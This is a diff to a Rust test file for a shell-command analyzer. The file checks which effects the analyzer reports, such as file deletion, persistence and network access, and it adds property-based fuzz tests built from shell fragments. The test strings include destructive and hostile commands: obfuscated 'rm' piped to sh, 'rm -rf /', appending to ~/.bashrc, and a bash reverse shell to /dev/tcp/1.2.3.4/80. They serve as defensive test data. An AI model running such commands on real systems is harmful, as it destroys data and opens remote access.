@@ -1,5 +1,6 @@
 //! Commands and their effects.
 
+use proptest::prelude::*;
 use rstest::rstest;
 
 use crate::{Analysis, analyze};
@@ -50,10 +51,10 @@ fn effects(analysis: &Analysis) -> Vec<String> {
 #[case::hex("echo 726d2078 | xxd -r -p | sh", &["execute code rm x", "delete file x"])]
 #[case::reverse("echo 'x mr' | rev | sh", &["execute code rm x\n", "delete file x"])]
 #[case::rot13("echo 'ez k' | tr a-z n-za-m | sh", &["execute code rm x\n", "delete file x"])]
-#[case::find_exec("find /a -name '*.b' -exec rm {} \\;", &["delete file /a/**/*.b"])]
-#[case::find_delete("find /a -delete", &["delete file /a/** -r -f"])]
+#[case::find_exec("find /a -name '*.b' -exec rm {} \\;", &["search file /a/**/*.b", "delete file /a/**/*.b"])]
+#[case::find_delete("find /a -delete", &["search file /a/**", "delete file /a/** -r -f"])]
 #[case::xargs("echo a b | xargs rm -f", &["delete file a -f", "delete file b -f"])]
-#[case::xargs_find("find /a -name k | xargs cat", &["read file /a/**/k"])]
+#[case::xargs_find("find /a -name k | xargs cat", &["search file /a/**/k", "read file /a/**/k"])]
 #[case::substitution("cat $(rm x)", &["delete file x"])]
 #[case::function("f() { rm \"$1\"; }; f /x", &["delete file /x"])]
 #[case::uncalled("f() { rm \"$1\"; }", &["delete file $1 ?"])]
@@ -62,7 +63,98 @@ fn effects(analysis: &Analysis) -> Vec<String> {
 #[case::redirect("echo a > /etc/x", &["write file /etc/x"])]
 #[case::persist("echo a >> ~/.bashrc", &["persist file ~/.bashrc", "append file ~/.bashrc"])]
 #[case::reverse_shell("bash -i >& /dev/tcp/1.2.3.4/80 0>&1", &["network host 1.2.3.4:80", "send host 1.2.3.4:80", "execute code ?"])]
-#[case::either("if a; then x=ls; else x=rm; fi; $x -f /", &["delete file / -f"])]
+#[case::either("if a; then x=echo; else x=rm; fi; $x -f /", &["delete file / -f"])]
 fn what_commands_do(#[case] text: &str, #[case] expected: &[&str]) {
     assert_eq!(effects(&analyze(text)), expected);
+}
+
+/// Pieces that shell text is made of, so that what is put together at random means something now and then.
+fn text() -> impl Strategy<Value = String> {
+    let piece = prop_oneof![
+        prop::sample::select(vec![
+            "rm ",
+            "-rf ",
+            "/",
+            " ",
+            "\n",
+            "\"",
+            "'",
+            "`",
+            "$(",
+            ")",
+            "${",
+            "}",
+            "$x",
+            "x=",
+            "(",
+            "{ ",
+            ";",
+            "&&",
+            "||",
+            "|",
+            "&",
+            ">",
+            "<",
+            "<<E\n",
+            "E\n",
+            "<<<",
+            "<(",
+            "if ",
+            "then ",
+            "fi",
+            "for i in ",
+            "do ",
+            "done",
+            "case x in ",
+            "esac",
+            "eval ",
+            "sh -c ",
+            "sudo ",
+            "xargs ",
+            "f() ",
+            "find / -exec ",
+            "\\",
+            "$'",
+            "{a,b}",
+            "$((",
+            "))",
+            "é",
+            "python -c ",
+            "os.system(",
+            "echo ",
+            "base64 -d ",
+            "#",
+            "!",
+            "[[ ",
+            "]]",
+            "trap ",
+            "cd ",
+            "1..9",
+            "*",
+            "~",
+        ])
+        .prop_map(str::to_owned),
+        "\\PC{0,4}",
+    ];
+    prop::collection::vec(piece, 0..40).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #[test]
+    fn nothing_hides_what_stands_in_front(text in text()) {
+        let analysis = analyze(&format!("rm -rf /canary\n{text}"));
+        let deleted = effects(&analysis).contains(&"delete file /canary -r -f".to_owned());
+        prop_assert!(deleted);
+    }
+
+    #[test]
+    fn numbers_name_commands(text in text()) {
+        let analysis = analyze(&text);
+        let count = analysis.commands.len();
+        prop_assert!(analysis.effects.iter().all(|effect| effect.command < count));
+        for command in &analysis.commands {
+            prop_assert!(command.reads_from.iter().chain(&command.writes_to).all(|&other| other < count));
+        }
+        prop_assert_eq!(analyze(&text), analysis);
+    }
 }
